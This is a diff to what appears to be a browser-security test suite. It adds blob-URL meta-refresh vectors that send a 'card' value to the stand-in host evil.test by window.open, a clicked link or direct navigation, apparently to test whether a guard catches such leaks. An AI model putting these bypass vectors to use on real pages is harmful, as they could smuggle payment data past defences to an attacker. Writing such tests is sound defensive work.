@@ -22,6 +22,8 @@
   };
   const frame = () => element("iframe", {}).contentWindow;
   const at = (card, scheme = "https") => `${scheme}://${run}.evil.test:${https}/${run}?card=${card}`;
+  /** A page that the policy goes along to, and the guard does not. */
+  const blob = (card) => URL.createObjectURL(new Blob([`<meta http-equiv="refresh" content="0;url=${at(card)}">`], { type: "text/html" }));
   // Browsers ask only hosts of known registries whether they let a page use their passkeys: a provider's is the attacker's machine here.
   const named = (card) => `${card}.${run}.stripe.com`;
   /** An element that calls out once it is in the page, and whose callback nobody can change. */
@@ -107,6 +109,11 @@
       link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
     },
     "link-in-the-page": (card) => element("a", { href: at(card), target: "_blank" }).click(),
+    "blob-opened": (card) => window.open(blob(card)),
+    "blob-linked": (card) => element("a", { href: blob(card), target: "_blank" }).click(),
+    "blob-gone-to"(card) {
+      location = blob(card);
+    },
     "link-with-an-argument": (card) => element("a", { href: at(card), target: "_blank" }, null).click(1),
     "link-rewritten-by-hand"(card) {
       const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
